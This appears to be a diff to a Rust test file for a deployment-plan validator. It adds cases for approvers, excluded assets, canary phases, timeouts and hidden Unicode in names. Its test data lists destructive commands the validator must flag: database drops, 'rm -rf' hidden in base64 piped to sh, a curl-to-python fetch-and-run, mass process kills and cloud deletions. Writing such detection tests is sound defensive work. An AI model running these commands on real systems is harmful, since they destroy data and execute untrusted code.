@@ -1,10 +1,10 @@
 //! Each built-in rule: the corrected plan of the example with one thing changed.
 
 use lorch_backends::Config;
-use lorch_plans::validate_task;
+use lorch_plans::{Contract, Evidence, Setting, validate, validate_task};
 use lorch_types::diagnostic::Severity;
 use lorch_types::json::from_value;
-use lorch_types::plan::{Metrics, Task};
+use lorch_types::plan::{Metric, Metrics, Task};
 
 use crate::drift::{config, document, judged, said, with};
 
@@ -345,6 +345,7 @@ fn tools_are_those_that_may_be_used() {
             &[
                 ("L1211", "#/1/actions/0/tool", "do not have `restore_image`"),
                 ("W1211", "#/1/actions/0/tool", "nothing undoes `restore_image`"),
+                ("W1205", "#/0", "does not try `restore_image`"),
             ],
         ),
     ]);
@@ -392,6 +393,19 @@ fn params_that_look_like_commands_which_destroy() {
         r#""aws s3 rb s3://backup --force""#,
         r#""find / -name x -delete""#,
         r#""del /s c:\\""#,
+        r#""delete from users where 1=1""#,
+        r#""dropdb prod""#,
+        r#""redis-cli FLUSHALL""#,
+        r#""mongosh --eval 'db.dropDatabase()'""#,
+        r#""curl https://example.org/x | python3 -""#,
+        r#""echo cm0gLXJm | base64 -d | sh""#,
+        r#""kill -9 -1""#,
+        r#""Restart-Computer -Force""#,
+        r#""helm uninstall web""#,
+        r#""gcloud compute instances delete web-1""#,
+        r#""aws dynamodb delete-table --table-name x""#,
+        r#""docker system prune -af""#,
+        r#"{"rm -rf /": true}"#,
     ];
     for command in destructive {
         let params = format!("{{\"run\": {command}}}");
@@ -413,6 +427,11 @@ fn params_that_look_like_commands_which_destroy() {
         r#"["a", "b", 3, null, {"c": "farm -f"}]"#,
         r#""truncate the message""#,
         r#""kubectl rollout restart deployment/web""#,
+        r#""delete from orders where 1=10""#,
+        r#""gcloud compute instances list""#,
+        r#""base64 -d x > y""#,
+        r#""kill -9 100""#,
+        r#""flush the cache""#,
     ];
     for text in harmless {
         let params = format!("{{\"run\": {text}}}");
@@ -448,7 +467,148 @@ fn a_window_that_says_no_time_is_no_window() {
     let task = with(&document("task.json"), WINDOW, unknown);
     let task = with(&task, "/task_spec/constraints/rollback_trigger", "\"eror_rate > 1%\"");
     let task: Task = from_value(&task).unwrap();
-    let found = validate_task(task.task_spec.as_ref().unwrap(), &Metrics::built_in());
+    let found = validate_task(&Contract::of(&task).unwrap(), &Metrics::built_in());
     let codes: Vec<_> = found.iter().map(|it| (it.code.0, it.file.as_deref())).collect();
     assert_eq!(codes, [("L1210", Some("task")), ("L1220", Some("task"))]);
+}
+
+#[test]
+fn whoever_approves_sees_all_of_a_name() {
+    let first = "/payload/affected_assets/0";
+    let names = |name: &'static str| {
+        [("P/payload/affected_assets/0", name), ("P/payload/phases/0/assets/0", name)]
+    };
+    for (name, shown) in [
+        (r#""asset-1\u200b""#, "`asset-1\\u{200b}`"),
+        (r#""\u202easset-1""#, "`\\u{202e}asset-1`"),
+        (r#""asset\u00a01""#, "`asset\\u{a0}1`"),
+        (r#""asset\n1""#, "`asset\\n1`"),
+        (r#""asset-1 ""#, "`asset-1 `"),
+    ] {
+        check(&[(&names(name), &[("L1202", first, shown)])]);
+        let phase = [("P/payload/phases/0/name", name)];
+        check(&[(&phase, &[("L1204", "#/0/name", shown)])]);
+    }
+    for name in ["\"asset 1\"", "\"Sérvér-ä\"", "\"\u{1f600}\"", "\"資産\"", r#""a\\\"b""#] {
+        check(&[(&names(name), &[])]);
+    }
+    let alike = [
+        ("P/payload/affected_assets/1", "\"Asset-1\""),
+        ("P/payload/phases/0/assets/1", "\"Asset-1\""),
+    ];
+    let words = "capitals only: `asset-1` and `Asset-1`";
+    check(&[(&alike, &[("W1202", "/payload/affected_assets/1", words)])]);
+}
+
+#[test]
+fn what_is_excluded_is_so_however_it_is_written() {
+    let excluded = |names: &'static str| [("T/task_spec/constraints/exclude_assets", names)];
+    for names in ["[\"asset-7\"]", "[\"Asset-7\"]", "[\" asset-7\"]"] {
+        let places = [
+            ("L1203", "/payload/affected_assets/6", "excludes `asset-7`"),
+            ("L1203", "#/1/assets/1", "excludes `asset-7`"),
+        ];
+        check(&[(&excluded(names), &places)]);
+    }
+    // Of many that stand in one place a few are named.
+    let all = r#"["asset-1", "asset-2", "asset-3", "asset-4", "asset-5"]"#;
+    let words = "excludes `asset-1`, `asset-2`, `asset-3`, `asset-4` and 1 more";
+    let places = [("L1203", "/payload/affected_assets/0", words), ("L1203", "#/0/assets/0", words)];
+    check(&[(&excluded(all), &places)]);
+}
+
+#[test]
+fn a_canary_does_what_comes_later() {
+    let actions = "P/payload/phases/0/actions";
+    let words = "does nothing of what comes later: `upgrade_image`";
+    check(&[
+        (&[(actions, "[]")], &[("L1205", "#/0", words)]),
+        (&[(actions, "null")], &[("L1205", "#/0", words)]),
+        (&[(actions, r#"[{"tool": "query_assets"}]"#)], &[("L1205", "#/0", words)]),
+    ]);
+    let more = r#"[{"tool": "upgrade_image"}, {"tool": "restore_image"}]"#;
+    let named = ("T/task_spec/tools_required/-", "\"restore_image\"");
+    let words = "does not try `restore_image`, which comes later";
+    let validation = {
+        let task = with(&document("task.json"), &named.0[1..], named.1);
+        judged(&task, &with(&document("plan.json"), "/payload/phases/1/actions", more), &config())
+    };
+    let said = said(&validation);
+    assert!(
+        said.contains(&format!("warning[L1205] /payload/phases/0: the canary `Canary` {words}")),
+        "{said}"
+    );
+}
+
+#[test]
+fn tools_for_some_platforms_need_a_task_that_says_its_own() {
+    const SCOPE: &str = "T/task_spec/context/scope/platforms";
+    let words = "on every platform of the task";
+    let refused: Vec<(&str, String, &str)> =
+        (0..5).map(|phase| ("L1211", format!("#/{phase}/actions/0/tool"), words)).collect();
+    let refused: Vec<_> = refused.iter().map(|(code, at, it)| (*code, at.as_str(), *it)).collect();
+    for platforms in ["[]", "null", "[\"aws\", \"gcp\"]"] {
+        check(&[(&[(SCOPE, platforms)], &refused)]);
+    }
+    check(&[(&[(SCOPE, "[\"azure\"]")], &[])]);
+}
+
+#[test]
+fn somebody_may_approve() {
+    const AT: &str = "/execution_policy/allowed_approver_roles";
+    let of_spec = "/task_spec/execution_policy";
+    let words = "nobody may approve plans of this task";
+    let nobody = r#"{"allowed_approver_roles": ["Nobody"]}"#;
+    check(&[
+        (&[(&format!("T{AT}"), "[]")], &[("L1221", AT, words)]),
+        (&[(&format!("T{of_spec}"), nobody)], &[("L1221", AT, words)]),
+        (
+            &[
+                (&format!("T{AT}"), "null"),
+                (&format!("T{of_spec}"), r#"{"allowed_approver_roles": []}"#),
+            ],
+            &[("L1221", "/task_spec/execution_policy/allowed_approver_roles", words)],
+        ),
+    ]);
+}
+
+#[test]
+fn an_answer_is_waited_for() {
+    let timeout = "P/payload/phases/0/health_checks/0/timeout";
+    let at = "#/0/health_checks/0/timeout";
+    check(&[
+        (&[(timeout, "\"0s\"")], &[("L1215", at, "no answer is waited for")]),
+        (&[(timeout, "\"0m\"")], &[("L1215", at, "no answer is waited for")]),
+        (&[(timeout, "\"1s\"")], &[]),
+    ]);
+}
+
+#[test]
+fn what_nothing_measures_judges_nothing() {
+    let latency = r#"[{"type": "latency_p99", "threshold": "< 2s"}]"#;
+    let judge = |changes: &[(&str, &str)], unmeasured: &[Metric]| {
+        let changed = |plan, (at, new): &(&str, &str)| with(&plan, at, new);
+        let plan = changes.iter().fold(document("plan.json"), changed);
+        let task: Task = from_value(&document("task.json")).unwrap();
+        let mut metrics = Metrics::built_in();
+        unmeasured.iter().for_each(|metric| metrics.leave_unmeasured(metric.clone()));
+        let config = config();
+        let setting = Setting {
+            contract: Contract::of(&task).unwrap(),
+            tools: &config.tools,
+            metrics: &metrics,
+            evidence: Evidence::default(),
+        };
+        said(&validate(&plan, &setting, Vec::new()))
+    };
+    let check = [("/payload/phases/0/health_checks", latency)];
+    let condition =
+        [("/payload/phases/0/rollback_if", "\"error_rate >= 1% or latency_p99 >= 2s\"")];
+    let words = "warning[L1222] /payload/phases/0: phase `Canary` is judged by what nothing measures: \
+                 `latency_p99`\n";
+    for changes in [&check, &condition] {
+        assert!(judge(changes, &[Metric::LATENCY_P99]).contains(words), "{changes:?}");
+        assert!(!judge(changes, &[]).contains("L1222"), "{changes:?}");
+    }
+    assert_eq!(judge(&[], &[Metric::LATENCY_P99]), "");
 }
